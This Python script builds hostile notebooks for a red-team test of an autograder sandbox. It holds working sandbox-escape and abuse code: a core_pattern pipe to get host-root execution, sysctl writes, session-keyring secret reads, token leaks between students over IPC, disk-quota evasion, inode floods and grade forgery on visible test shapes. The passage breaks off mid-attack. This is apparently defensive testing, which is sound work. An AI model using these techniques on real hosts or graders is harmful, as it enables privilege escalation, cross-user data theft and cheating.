"""Build the white-box red team's hostile submissions (notebooks 05 and 01).

python tests/redteam_whitebox/build_attacks.py --out DIR [--notebooks REPO/notebooks] [--config CONFIG.json]

Written after reading the grader (autograder/*.py, course_lib/grading/remote_answer.py, answer_wire.py,
grading.py). Every submission starts from the released student notebook with WRONG answers in every
answer cell (a score above the wrong-answer control is a forgery) plus attack code. Most attack
notebook 05; the attacks on the large-request path (a request over verdict.INLINE_ARGUMENT travels as
``course-request-N.txt`` in the kernel's folder) attack notebook 01, whose hidden ``check_ngram_prob``
case (n=3, the extra sentences) sends the first such request.

The runner (run_attacks.py) calls :func:`build` with its configuration (scratch paths, the port of
its local HTTP server, tokens); the notebooks are written to its --out folder only, never into the
repository. These notebooks are hostile: never open or run them outside the grader's sandbox.

Stdlib only. Writes DIR/<name>.ipynb (x04's several files: DIR/x04/<file>.ipynb) and DIR/manifest.json.
"""
import argparse
import copy
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))

# ---------------------------------------------------------------- wrong answers
WRONG05 = {
    "dot_score": "def dot_score(Q, K):\n    return torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)\n",
    "scaled_dot_score": "def scaled_dot_score(Q, K):\n    return torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)\n",
    "bilinear_score": "def bilinear_score(Q, K, W):\n    return torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)\n",
    "additive_score": "def additive_score(Q, K, W, U, v):\n    return torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)\n",
    "table_scores": "machines_scores = [0.0, 0.0, 0.0, 0.0]\nprint(machines_scores)\n",
    "table_scaled": "machines_scaled = [0.0, 0.0, 0.0, 0.0]\nprint(machines_scaled)\n",
    "table_weights": "machines_weights = torch.zeros(4, dtype=torch.float64)\n"
                     "print(machines_weights, \"sum =\", float(machines_weights.sum()))\n",
    "table_weighted": "machines_weighted_values = torch.zeros(4, 2, dtype=torch.float64)\nprint(machines_weighted_values)\n",
    "table_z": "z_machines = torch.zeros(2, dtype=torch.float64)\nprint(z_machines)\n",
    "attention_scores": "def attention_scores(Q, K):\n    return torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)\n",
    "softmax": "def softmax(x, dim=-1):\n    return torch.zeros_like(x)\n",
    "self_attention": "def self_attention(Q, K, V, mask=None):\n"
                      "    w = torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)\n"
                      "    return w @ V, w\n",
    "causal_mask": "def causal_mask(n):\n    return torch.zeros(n, n, dtype=torch.bool)\n",
    "space_invader": "space_invader_weights = torch.zeros(4, 4, dtype=torch.float64)\nprint(space_invader_weights)\n",
    "brown_dog": "brown_dog_weights = torch.zeros(4, dtype=torch.float64)\nprint(brown_dog_weights)\n",
}
WRITTEN05 = ("why_scale", "The weights get smaller and the gradient gets bigger.")  # deliberately wrong
WRONG01 = {
    "count_ngrams": "from collections import Counter\ndef count_ngrams(tokens, n):\n    return Counter()\n",
    "ngram_prob": "def ngram_prob(counts_n, counts_n_minus_1, context, word, k=0.0, vocab_size=None):\n    return 0.0\n",
    "sentence_logprob": "def sentence_logprob(tokens, counts_n, counts_n_minus_1, n, k=0.0, vocab_size=None):\n"
                        "    return 0.0\n",
    "perplexity": "def perplexity(sentences, counts_n, counts_n_minus_1, n, k=0.0, vocab_size=None):\n    return 1.0\n",
}
WRITTEN01 = ("why_held_out", "Because the held-out sentences are longer.")  # deliberately wrong
#: the first answer cell of each notebook: the prelude goes there. It runs before any test cell, so that what it prints
#: reaches the feedback page whatever the grader does later (it withheld what a notebook printed after its first hidden
#: test case until the hidden cases moved after the last cell), and the attack's own code goes there too wherever it can
FIRST = {"05": "dot_score", "01": "count_ngrams"}
FIRST05 = FIRST["05"]
LAST_ANSWER = {"05": "brown_dog", "01": "perplexity"}

#: white-box: the first argument's shape (n for causal_mask) of every call the VISIBLE checks of notebook 05
#: make (solutions/05_self_attention.ipynb, measured by run_attacks.hidden_fingerprints). A function that
#: answers correctly on these and wrongly elsewhere still scores 0 (every check cell has a hidden part), but
#: lets the grader go on to its hidden cases, which is what the hidden-case attacks need.
VISIBLE05 = {
    "dot_score": [(2, 3, 4), (3, 2), (6, 3, 4)],
    "scaled_dot_score": [(3, 2), (6, 3, 4)],
    "bilinear_score": [(2, 3, 4), (3, 4)],
    "additive_score": [(2, 3, 4), (3, 4)],
    "attention_scores": [(2, 5, 3), (4, 2), (5, 3)],
    "softmax": [(2, 5, 5), (3, 4)],
    "self_attention": [(2, 5, 3)],
    "causal_mask": [(1,), (4,), (7,)],
}

# ---------------------------------------------------------------- shared code
PRELUDE = r'''
import os, sys, json, time, base64, ctypes, signal, subprocess, hashlib
_RTCFG = @@CFG@@
_RTNAME = @@NAME@@
# proof that this attack's code ran in a kernel: a digest of the runner's token and the attack's name (it is in no
# notebook's source, so a page that merely shows this cell's code does not carry it)
print("RTWB-RAN-" + hashlib.sha256((_RTCFG["ran_token"] + ":" + _RTNAME).encode()).hexdigest()[:16], flush=True)
def _rt_res(key, value):
    line = "RT-RESULT[%s]=%s" % (key, str(value).replace("\n", " ")[:600])
    print(line, flush=True)
    try:   # the runner also reads this file from the host while the kernel lives (/proc/PID/cwd): what the grader's
        with open("rtwb-results.txt", "a") as _f:   # calls print, or a replay's kernel, never reaches the page
            _f.write(line + "\n")
    except OSError:
        pass
try:
    with open("rtwb-whoami", "w") as _f:   # the kernel's working folder: the runner maps its processes to this attack
        _f.write(_RTNAME)
except Exception as _e:
    _rt_res("whoami", repr(_e))
_rt_libc = ctypes.CDLL(None, use_errno=True)
def _rt_errno():
    e = ctypes.get_errno()
    return "%d %s" % (e, os.strerror(e))
def _rt_as_root():
    """True when this kernel is uid 0 of the host (the grader runs as root): a sysctl opens for writing."""
    try:
        os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
        return True
    except OSError:
        return False
'''

#: correct implementations for the shapes the visible checks use (see VISIBLE05), used by the hidden-case attacks
CORRECT05 = r'''
import math, torch
_RT_VIS = @@VIS@@
_RT_LOG = []
def _rt_visible(fn, first):
    key = tuple(first.shape) if isinstance(first, torch.Tensor) else (first,)
    return list(key) in [list(s) for s in _RT_VIS[fn]]
def _rt_describe(args):
    out = []
    for a in args:
        if isinstance(a, torch.Tensor):
            flat = a.detach().reshape(-1)
            out.append({"shape": list(a.shape), "dtype": str(a.dtype).replace("torch.", ""),
                        "first": [round(float(v), 6) for v in flat[:3]] if a.is_floating_point() else None,
                        "sum": round(float(a.double().sum()), 6)})
        else:
            out.append(repr(a)[:60])
    return out
def _rt_ok_dot(Q, K):
    return Q @ K.transpose(-2, -1)
def _rt_ok_scaled(Q, K):
    return Q @ K.transpose(-2, -1) / math.sqrt(K.shape[-1])
def _rt_ok_bilinear(Q, K, W):
    return Q @ W @ K.transpose(-2, -1)
def _rt_ok_additive(Q, K, W, U, v):
    wq = Q @ W.transpose(0, 1)
    uk = K @ U.transpose(0, 1)
    return torch.tanh(wq.unsqueeze(-2) + uk.unsqueeze(-3)) @ v
def _rt_ok_softmax(x, dim=-1):
    e = (x - x.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
def _rt_ok_attention(Q, K, V, mask=None):
    s = Q @ K.transpose(-2, -1) / math.sqrt(K.shape[-1])
    if mask is not None:
        s = s.masked_fill(~mask, float("-inf"))
    w = _rt_ok_softmax(s, -1)
    return w @ V, w
def _rt_ok_mask(n):
    return torch.ones(n, n, dtype=torch.bool).tril()
_RT_OK = {"dot_score": _rt_ok_dot, "scaled_dot_score": _rt_ok_scaled, "bilinear_score": _rt_ok_bilinear,
          "additive_score": _rt_ok_additive, "attention_scores": _rt_ok_scaled, "softmax": _rt_ok_softmax,
          "self_attention": _rt_ok_attention, "causal_mask": _rt_ok_mask}
def _rt_define(hidden):
    """Define every exercise function: right on the visible checks' inputs, ``hidden(fn, args, right)`` elsewhere."""
    g = globals()
    for fn in _RT_OK:
        def make(fn):
            def f(*args, **kwargs):
                right = _RT_OK[fn]
                if _rt_visible(fn, args[0]):
                    return right(*args, **kwargs)
                return hidden(fn, list(args) + list(kwargs.values()), lambda: right(*args, **kwargs))
            f.__name__ = fn
            return f
        g[fn] = make(fn)
'''

ANSWERS_AS_DEFINED = {fn: "# defined by the attack's first cell (_rt_define)\n" for fn in VISIBLE05}


def build_notebook(student_nb, notebook="05", answers=None, prefix=None, suffix=None, written=None,
                   extra_cells=(), blank=False, replace=None):
    """The student notebook with wrong answers everywhere (or blank), attack code added.

    answers: grade_id -> source instead of the wrong answer; prefix/suffix: grade_id -> code around it;
    written: the written answer's text; extra_cells: cells appended at the end; replace: cell id -> source
    (an ungraded cell of the student's own)."""
    nb = copy.deepcopy(student_nb)
    if blank:
        return nb
    wrong, (written_id, written_text) = (WRONG05, WRITTEN05) if notebook == "05" else (WRONG01, WRITTEN01)
    answers = dict(wrong, **(answers or {}))
    prefix, suffix, replace = prefix or {}, suffix or {}, replace or {}
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell["source"] = prefix.get(gid, "") + answers[gid] + suffix.get(gid, "")
            cell["outputs"] = []
        elif gid == written_id:
            cell["source"] = written if written is not None else written_text
        elif cell.get("id") in replace:
            cell["source"] = replace[cell["id"]]
            cell["outputs"] = []
    for i, cell in enumerate(copy.deepcopy(list(extra_cells))):
        cell.setdefault("id", "rtwb-extra-%d" % i)
        nb["cells"].append(cell)
    return nb


def code_cell(src, metadata=None, cell_id=None):
    cell = {"cell_type": "code", "execution_count": None, "metadata": metadata or {}, "outputs": [], "source": src}
    if cell_id:
        cell["id"] = cell_id
    return cell


def markdown_cell(src, metadata=None, cell_id=None):
    cell = {"cell_type": "markdown", "metadata": metadata or {}, "source": src}
    if cell_id:
        cell["id"] = cell_id
    return cell


# ---------------------------------------------------------------- the attacks
ATTACKS = []


def attack(name, cls, desc, evidence, notebook="05", runs=True):
    """An attack; ``runs=False``: its point is that its code never runs (the runner then asks no proof that it did)."""
    def deco(fn):
        ATTACKS.append({"name": name, "class": cls, "desc": desc, "evidence": evidence, "notebook": notebook,
                        "runs": runs, "fn": fn})
        return fn
    return deco


def prelude(name, cfg, notebook="05"):
    return PRELUDE.replace("@@CFG@@", repr(cfg)).replace("@@NAME@@", repr(name))


def with_prelude(name, cfg, notebook="05", **kw):
    """prefix dict with the prelude in the first answer cell (merged with kw['prefix'])."""
    prefix = dict(kw.pop("prefix", {}) or {})
    first = FIRST[notebook]
    prefix[first] = prelude(name, cfg, notebook) + prefix.get(first, "")
    return dict(prefix=prefix, **kw)


# ======================================================================= 1. host root / privilege
@attack("a01_core_pattern_pipe", "host-root",
        "sets kernel.core_pattern to a pipe into a script in the kernel's folder (the same path on the host), then "
        "crashes a child: the kernel runs that script as the host's root, in the host's namespaces; the script only "
        "writes a marker into the runner's scratch; core_pattern is put back after 2 s (and by the runner)",
        "marker file written by the helper (its uid), or core_pattern seen changed by the sampler / after the batch")
def _(nb, cfg):
    code = r'''
_rt_marker = os.path.join(_RTCFG["markers"], "a01_core_pattern")
try:
    _orig = open("/proc/sys/kernel/core_pattern").read().rstrip("\n")
    _script = os.path.abspath("rtwb-core-helper.sh")
    with open(_script, "w") as _f:
        _f.write("#!/bin/sh\n# RTWB a01: proves host-root code execution, writes one marker, reads the core away\n"
                 "echo \"RTWB-a01 helper ran: uid=$(id -u) pid=$$ crashed=$1 $(cat /proc/1/comm 2>/dev/null)\" > %s\n"
                 "cp %s %s/rtwb-a01-seen 2>/dev/null\n"
                 "cat > /dev/null\n" % (_rt_marker, _rt_marker, os.getcwd()))
    os.chmod(_script, 0o755)
    with open("/proc/sys/kernel/core_pattern", "w") as _f:
        _f.write("|" + _script + " %p")
    _rt_res("core_pattern_set", open("/proc/sys/kernel/core_pattern").read().strip())
    try:
        _p = subprocess.run([sys.executable, "-c", "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)"], timeout=5)
        _rt_res("child_rc", _p.returncode)
        time.sleep(2)
    finally:
        with open("/proc/sys/kernel/core_pattern", "w") as _f:
            _f.write(_orig)
    _rt_res("helper_seen", open("rtwb-a01-seen").read().strip() if os.path.exists("rtwb-a01-seen") else "no")
except Exception as _e:
    _rt_res("a01", repr(_e))
'''
    return build_notebook(nb, **with_prelude("a01_core_pattern_pipe", cfg, suffix={FIRST05: code}))


@attack("a02_hostname_sysctl", "host-root",
        "writes /proc/sys/kernel/hostname and domainname (the host's UTS namespace: no UTS namespace of its own) and "
        "tries sethostname(2); puts the old names back after 1.5 s",
        "hostname / domainname seen changed by the runner's 0.25 s sampler")
def _(nb, cfg):
    code = r'''
for _key in ("hostname", "domainname"):
    _path = "/proc/sys/kernel/" + _key
    try:
        _old = open(_path).read().rstrip("\n")
        with open(_path, "w") as _f:
            _f.write("rtwb-a02-" + _key)
        _rt_res(_key + "_now", open(_path).read().strip())
        time.sleep(1.5)
        with open(_path, "w") as _f:
            _f.write(_old)
        _rt_res(_key + "_restored", open(_path).read().strip() == _old)
    except Exception as _e:
        _rt_res(_key, repr(_e))
_r = _rt_libc.sethostname(b"rtwb-a02-syscall", 16)
_rt_res("sethostname", "%d %s" % (_r, _rt_errno() if _r else ""))
if _r == 0:
    _rt_libc.sethostname(_old.encode(), len(_old))
'''
    return build_notebook(nb, **with_prelude("a02_hostname_sysctl", cfg, suffix={FIRST05: code}))


@attack("a03_sysctl_global_write", "host-root",
        "opens every host-wide sysctl (not net.*, which belongs to its own network namespace) for writing, without "
        "writing, and counts those that open; changes kernel.printk_ratelimit for 1.5 s to prove one write",
        "printk_ratelimit seen changed by the sampler; the count of writable host sysctls it reports")
def _(nb, cfg):
    code = r'''
_ok, _tried = [], 0
for _root, _dirs, _files in os.walk("/proc/sys"):
    if _root.startswith("/proc/sys/net"):
        continue
    for _n in _files:
        _p = os.path.join(_root, _n)
        _tried += 1
        try:
            os.close(os.open(_p, os.O_WRONLY))   # opened, never written: the permission check is the open's
            _ok.append(_p[len("/proc/sys/"):].replace("/", "."))
        except OSError:
            pass
_rt_res("sysctl_writable", "%d of %d" % (len(_ok), _tried))
_rt_res("sysctl_writable_sample", " ".join(_ok[:25]))
try:
    _p = "/proc/sys/kernel/printk_ratelimit"
    _old = open(_p).read().strip()
    with open(_p, "w") as _f:
        _f.write(str(int(_old) + 2))
    _rt_res("printk_ratelimit_now", open(_p).read().strip())
    time.sleep(1.5)
    with open(_p, "w") as _f:
        _f.write(_old)
except Exception as _e:
    _rt_res("printk_ratelimit", repr(_e))
'''
    return build_notebook(nb, **with_prelude("a03_sysctl_global_write", cfg, suffix={FIRST05: code}))


@attack("a04_drop_caches", "host-root",
        "writes 1 (and only 1) into /proc/sys/vm/drop_caches: the host's page cache is dropped for every process on "
        "the machine",
        "/proc/vmstat's drop_pagecache counter went up during the batch")
def _(nb, cfg):
    code = r'''
try:
    with open("/proc/sys/vm/drop_caches", "w") as _f:
        _f.write("1")
    _rt_res("drop_caches", "written")
except Exception as _e:
    _rt_res("drop_caches", repr(_e))
'''
    return build_notebook(nb, **with_prelude("a04_drop_caches", cfg, suffix={FIRST05: code}))


@attack("a05_cgroup_ns_limits", "host-root",
        "in a child: unshare(CLONE_NEWCGROUP|CLONE_NEWNS), mount the v1 pids hierarchy (rooted at its own "
        "course-kernel-N cgroup) and write pids.max = max, then fork 120 sleepers; mount the v1 cpu hierarchy "
        "(rooted at the host's root: no cgroup namespace) and mkdir a cgroup there, visible on the host",
        "processes started past --processes; a /sys/fs/cgroup/*/rtwb-* folder on the host")
def _(nb, cfg):
    child = r'''
import ctypes, os, sys, time, json
libc = ctypes.CDLL(None, use_errno=True)
out = {}
r = libc.unshare(0x02000000 | 0x00020000)
out["unshare"] = r if r == 0 else ctypes.get_errno()
for h in ("pids", "cpu"):
    d = "/tmp/rtwb-cg-" + h
    os.makedirs(d, exist_ok=True)
    r = libc.mount(b"none", d.encode(), b"cgroup", 0, h.encode())
    out["mount_" + h] = r if r == 0 else os.strerror(ctypes.get_errno())
try:
    out["pids_max_before"] = open("/tmp/rtwb-cg-pids/pids.max").read().strip()
    open("/tmp/rtwb-cg-pids/pids.max", "w").write("max")
    out["pids_max_after"] = open("/tmp/rtwb-cg-pids/pids.max").read().strip()
except OSError as e:
    out["pids_max"] = repr(e)
try:
    os.mkdir("/tmp/rtwb-cg-cpu/rtwb-a05-%d" % os.getpid())
    out["host_cpu_cgroup"] = "rtwb-a05-%d" % os.getpid()
except OSError as e:
    out["host_cpu_cgroup"] = repr(e)
kids = []
for i in range(120):
    try:
        pid = os.fork()
    except OSError as e:
        out["fork_refused_at"] = i
        break
    if pid == 0:
        time.sleep(2.5)
        os._exit(0)
    kids.append(pid)
out["forked"] = len(kids)
for pid in kids:
    os.waitpid(pid, 0)
print(json.dumps(out))
'''
    code = r'''
try:
    _p = subprocess.run([sys.executable, "-c", %r], capture_output=True, text=True, timeout=6)
    _out = json.loads(_p.stdout.strip().splitlines()[-1]) if _p.stdout.strip() else {"stderr": _p.stderr[-300:]}
except Exception as _e:
    _out = {"error": repr(_e)}
for _k, _v in _out.items():
    _rt_res(_k, _v)
''' % child
    return build_notebook(nb, **with_prelude("a05_cgroup_ns_limits", cfg, suffix={FIRST05: code}))


@attack("a06_session_keyring", "host-root",
        "keys are not namespaced: reads the grader's session keyring (inherited through the zygote into the kernel) "
        "for the runner's canary key, prints its payload, and adds keys of its own to the session keyring",
        "the canary key's payload in the feedback page; a key named rtwb-a06-* in the runner's session keyring")
def _(nb, cfg):
    code = r'''
_KEYCTL, _ADD_KEY = 250, 248
_rt_libc.syscall.restype = ctypes.c_long
def _kc(*a):
    return _rt_libc.syscall(_KEYCTL, *a)
_buf = ctypes.create_string_buffer(65536)
_n = _kc(11, ctypes.c_long(-3), _buf, 65536)                       # KEYCTL_READ the session keyring: its key ids
_ids = [int.from_bytes(_buf.raw[i:i + 4], "little") for i in range(0, max(_n, 0), 4)]
_rt_res("session_keys", "%d ids (%s)" % (len(_ids), _rt_errno() if _n < 0 else "ok"))
for _i in _ids:
    _d = ctypes.create_string_buffer(512)
    _kc(6, ctypes.c_long(_i), _d, 512)                              # KEYCTL_DESCRIBE
    _p = ctypes.create_string_buffer(4096)
    _m = _kc(11, ctypes.c_long(_i), _p, 4096)                       # KEYCTL_READ: the payload
    _rt_res("key_%d" % _i, "%s payload=%s" % (_d.value.decode(errors="replace"),
                                               _p.raw[:max(_m, 0)].decode(errors="replace")[:200] if _m >= 0 else _rt_errno()))
_k = _rt_libc.syscall(_ADD_KEY, b"user", b"rtwb-a06-planted", b"RTWB-a06 was here", 17, ctypes.c_long(-3))
_rt_res("add_key_session", _k if _k >= 0 else _rt_errno())
_k = _rt_libc.syscall(_ADD_KEY, b"user", b"rtwb-a06-user", b"RTWB-a06 was here", 17, ctypes.c_long(-4))
_rt_res("add_key_user", _k if _k >= 0 else _rt_errno())
'''
    return build_notebook(nb, **with_prelude("a06_session_keyring", cfg, suffix={FIRST05: code}))


@attack("a07_syscall_survey", "host-root",
        "what the kernel may do that a sandbox usually forbids: perf_event_open on a whole CPU, bpf(PROG_LOAD), "
        "io_uring_setup, userfaultfd, a tmpfs mounted over /tmp, /proc/sysrq-trigger and /proc/kcore opened (never "
        "written), ptrace of its own child, setns into its own namespaces",
        "ESCAPED only if a host-wide one works: perf_event_open on a CPU, bpf program load, or sysrq-trigger opens")
def _(nb, cfg):
    code = r'''
_rt_libc.syscall.restype = ctypes.c_long
def _sc(name, *a):
    r = _rt_libc.syscall(*a)
    _rt_res(name, ("ok fd/ret %d" % r) if r >= 0 else "refused " + _rt_errno())
    if r > 2:
        try:
            os.close(r)
        except OSError:
            pass
    return r
_attr = (ctypes.c_uint8 * 128)()
ctypes.memmove(_attr, (1).to_bytes(4, "little") + (128).to_bytes(4, "little"), 8)   # PERF_TYPE_SOFTWARE, size
_sc("perf_event_cpu_wide", 298, ctypes.byref(_attr), ctypes.c_long(-1), 0, ctypes.c_long(-1), 0)
_insns = (ctypes.c_uint8 * 16)(*([0xb7, 0, 0, 0, 0, 0, 0, 0] + [0x95, 0, 0, 0, 0, 0, 0, 0]))  # r0 = 0; exit
_license = ctypes.create_string_buffer(b"GPL")
_battr = (ctypes.c_uint8 * 128)()
_hdr = (1).to_bytes(4, "little") + (2).to_bytes(4, "little") + ctypes.addressof(_insns).to_bytes(8, "little") + \
    ctypes.addressof(_license).to_bytes(8, "little")
ctypes.memmove(_battr, _hdr, len(_hdr))
_sc("bpf_prog_load", 321, 5, ctypes.byref(_battr), 128)
_params = (ctypes.c_uint8 * 120)()
_sc("io_uring_setup", 425, 4, ctypes.byref(_params))
_sc("userfaultfd", 323, 0)
for _p in ("/proc/sysrq-trigger", "/proc/kcore", "/dev/kmsg", "/proc/sys/kernel/modprobe"):
    try:
        os.close(os.open(_p, os.O_WRONLY if "kcore" not in _p else os.O_RDONLY))
        _rt_res("open_" + os.path.basename(_p), "OPENED (not written)")
    except OSError as _e:
        _rt_res("open_" + os.path.basename(_p), "refused %s" % _e.strerror)
_child = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/rtwb-over", exist_ok=True)
r = libc.unshare(0x00020000)
r = libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=1m") if r == 0 else r
print("mount_tmpfs_over_tmp", "ok" if r == 0 else os.strerror(ctypes.get_errno()))
"""
_p = subprocess.run([sys.executable, "-c", _child], capture_output=True, text=True, timeout=5)
_rt_res("mount", (_p.stdout + _p.stderr).strip()[-200:])
'''
    return build_notebook(nb, **with_prelude("a07_syscall_survey", cfg, suffix={FIRST05: code}))


# ======================================================================= 2. namespaces left shared
_IPC_HELPERS = r'''
_rt_libc.shmget.restype = ctypes.c_int
_rt_libc.shmat.restype = ctypes.c_void_p
_rt_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_rt_libc.shmdt.argtypes = [ctypes.c_void_p]
_rt_libc.msgrcv.restype = ctypes.c_long
try:
    _rt_rt = ctypes.CDLL("librt.so.1", use_errno=True)
except OSError:
    _rt_rt = _rt_libc
_rt_rt.mq_open.restype = ctypes.c_int
class _RtMsg(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 256)]
'''


@attack("b01_ipc_writer", "namespaces",
        "no IPC namespace: leaves a System V shared-memory segment, message queue and semaphore set (keys "
        "0x5257B001..3) and a POSIX message queue /rtwb-b01 holding the runner's token, for b02 (another student's "
        "kernel) and for the host",
        "the IPC objects are still on the host after the batch (ipcs / mq_open); b02 prints the token")
def _(nb, cfg):
    code = _IPC_HELPERS + r'''
_tok = _RTCFG["ipc_token_reversed"][::-1].encode()   # never spelt out in a page
_sid = _rt_libc.shmget(0x5257B001, 4096, 0o1666)
if _sid >= 0:
    _addr = _rt_libc.shmat(_sid, None, 0)
    ctypes.memmove(_addr, _tok + b"\0", len(_tok) + 1)
    _rt_libc.shmdt(ctypes.c_void_p(_addr))
_rt_res("shm", _sid if _sid >= 0 else _rt_errno())
_qid = _rt_libc.msgget(0x5257B002, 0o1666)
if _qid >= 0:
    _m = _RtMsg(1, _tok)
    _rt_res("msgsnd", _rt_libc.msgsnd(_qid, ctypes.byref(_m), len(_tok) + 1, 0o4000))
_rt_res("msg", _qid if _qid >= 0 else _rt_errno())
_sem = _rt_libc.semget(0x5257B003, 1, 0o1666)
if _sem >= 0:
    _rt_libc.semctl(_sem, 0, 16, 4242)   # SETVAL
_rt_res("sem", _sem if _sem >= 0 else _rt_errno())
_mq = _rt_rt.mq_open(b"/rtwb-b01", 0o100 | 0o2, 0o666, None)   # O_CREAT | O_RDWR
if _mq >= 0:
    _rt_res("mq_send", _rt_rt.mq_send(_mq, _tok, len(_tok), 0))
_rt_res("posix_mq", _mq if _mq >= 0 else _rt_errno())
'''
    return build_notebook(nb, **with_prelude("b01_ipc_writer", cfg, suffix={FIRST05: code}))


@attack("b02_ipc_reader", "namespaces",
        "another student's kernel: polls (7 s, in two cells) for b01's System V segment, queue, semaphore and "
        "POSIX queue and prints what they hold into its own feedback",
        "the token b01 was given appears in b02's feedback page")
def _(nb, cfg):
    code = _IPC_HELPERS + r'''
_got = {}
_end = time.time() + 5.5
def _rt_poll():
  try:
    _rt_poll_once()
  except Exception as _e:
    _got.setdefault("error", repr(_e))
def _rt_poll_once():
    if "shm" not in _got:
        _sid = _rt_libc.shmget(0x5257B001, 0, 0)
        if _sid >= 0:
            _addr = _rt_libc.shmat(_sid, None, 0o10000)   # SHM_RDONLY
            _got["shm"] = ctypes.string_at(_addr, 64).split(b"\0")[0].decode(errors="replace")
            _rt_libc.shmdt(ctypes.c_void_p(_addr))
    if "msg" not in _got:
        _qid = _rt_libc.msgget(0x5257B002, 0)
        if _qid >= 0:
            _m = _RtMsg()
            _n = _rt_libc.msgrcv(_qid, ctypes.byref(_m), 256, 0, 0o4000 | 0o40000)   # IPC_NOWAIT | MSG_COPY
            if _n < 0:
                _n = _rt_libc.msgrcv(_qid, ctypes.byref(_m), 256, 0, 0o4000)
            if _n > 0:
                _got["msg"] = bytes(_m.mtext).split(b"\0")[0].decode(errors="replace")
    if "sem" not in _got:
        _sem = _rt_libc.semget(0x5257B003, 0, 0)
        if _sem >= 0:
            _got["sem"] = _rt_libc.semctl(_sem, 0, 12)   # GETVAL
    if "mq" not in _got:
        _mq = _rt_rt.mq_open(b"/rtwb-b01", 0)
        if _mq >= 0:
            _buf = ctypes.create_string_buffer(8192)
            _n = _rt_rt.mq_receive(_mq, _buf, 8192, None)
            if _n > 0:
                _got["mq"] = _buf.raw[:_n].decode(errors="replace")
while time.time() < _end and len([k for k in _got if k != "error"]) < 4:
    _rt_poll()
    time.sleep(0.25)
for _k, _v in _got.items():
    _rt_res("read_" + _k, _v)
_rt_res("ipc_read_from_other_kernel", len(_got))
'''
    # it polls again later (b01 may be graded after it): once more in the last answer cell
    return build_notebook(nb, **with_prelude("b02_ipc_reader", cfg, suffix={FIRST05: code, "brown_dog": code}))


@attack("b03_host_identity", "namespaces",
        "reads what the host's /proc and UTS say of the machine: hostname, boot_id, kernel release, uptime and load "
        "(no time namespace), /proc/self/cgroup (no cgroup namespace: host cgroup paths), meminfo",
        "the host's boot_id appears in the feedback page")
def _(nb, cfg):
    code = r'''
for _p in ("/proc/sys/kernel/hostname", "/proc/sys/kernel/random/boot_id", "/proc/sys/kernel/osrelease",
           "/proc/uptime", "/proc/loadavg", "/proc/self/cgroup"):
    try:
        _rt_res(_p, open(_p).read().strip().replace("\n", " | "))
    except OSError as _e:
        _rt_res(_p, repr(_e))
_rt_res("uname", os.uname())
try:
    _rt_res("meminfo", " ".join(open("/proc/meminfo").read().split()[:9]))
except OSError as _e:
    _rt_res("meminfo", repr(_e))
'''
    return build_notebook(nb, **with_prelude("b03_host_identity", cfg, suffix={FIRST05: code}))


@attack("b04_ipc_leftover_memory", "namespaces",
        "System V shared memory outlives the kernel and is no one's RLIMIT_AS once detached: leaves 10 segments of "
        "100 MB (written, then detached) and 60 message queues on the host (keys 0x5257C0xx)",
        "the segments are still on the host after the batch (MB held)")
def _(nb, cfg):
    code = _IPC_HELPERS + r'''
_made, _bytes = 0, 0
_t0 = time.time()
for _i in range(10):
    if time.time() - _t0 > 5:
        break
    _sid = _rt_libc.shmget(0x5257C000 + _i, 100 << 20, 0o1600)
    if _sid < 0:
        _rt_res("shmget_%d" % _i, _rt_errno())
        break
    _addr = _rt_libc.shmat(_sid, None, 0)
    ctypes.memset(ctypes.c_void_p(_addr), 0x52, 100 << 20)
    _rt_libc.shmdt(ctypes.c_void_p(_addr))
    _made += 1
    _bytes += 100 << 20
for _i in range(60):
    _rt_libc.msgget(0x5257C100 + _i, 0o1600)
_rt_res("shm_segments_left", _made)
_rt_res("shm_bytes_left", _bytes)
'''
    return build_notebook(nb, **with_prelude("b04_ipc_leftover_memory", cfg, suffix={FIRST05: code}))


# ======================================================================= 3. limits that sample instead of enforce
@attack("c01_unlinked_disk", "limits",
        "writes 7 files of 220 MB into its folder, unlinking each as soon as it is written and keeping it open: the "
        "grader's disk check walks the folder twice a second and never sees them (1.5 GB against --disk-mb)",
        "deleted files held open by the kernel (the runner reads /proc/PID/fd) above --disk-mb")
def _(nb, cfg):
    first = r'''
_RT_HELD = []
def _rt_fill(n, mb=220):
    for _ in range(n):
        _name = "rtwb-c01-%d" % len(_RT_HELD)
        _f = open(_name, "wb", buffering=0)
        _chunk = b"\x52" * (8 << 20)
        _w = 0
        while _w < mb << 20:
            _w += _f.write(_chunk)
        os.unlink(_name)
        _RT_HELD.append(_f)
    _rt_res("held_unlinked_bytes", sum(os.fstat(f.fileno()).st_size for f in _RT_HELD))
_rt_fill(4)
'''
    second = "_rt_fill(3)\ntime.sleep(3)\n"
    third = "time.sleep(5)\n_rt_res('held_unlinked_bytes_end', sum(os.fstat(f.fileno()).st_size for f in _RT_HELD))\n"
    return build_notebook(nb, **with_prelude("c01_unlinked_disk", cfg, suffix={FIRST05: first,
                                                                               "table_scaled": second,
                                                                               "table_weights": third}))


@attack("c02_inode_flood", "limits",
        "makes 150,000 directories in its folder: the disk check counts only files (os.walk's files, st_blocks), "
        "never directories, whose blocks and inodes add up to ~600 MB",
        "directories it reports (>= 100,000) against the host's free inodes (sampled)")
def _(nb, cfg):
    code = r'''
_RT_C02 = globals().get("_RT_C02", 0)
_t0 = time.time()
try:
    while _RT_C02 < 150000 and time.time() - _t0 < 5.0:
        _top = "rtwb-c02/%03d" % (_RT_C02 // 1000)
        os.makedirs(_top, exist_ok=True)
        for _b in range(1000):
            os.mkdir("%s/%04d" % (_top, _b))
            _RT_C02 += 1
except OSError as _e:
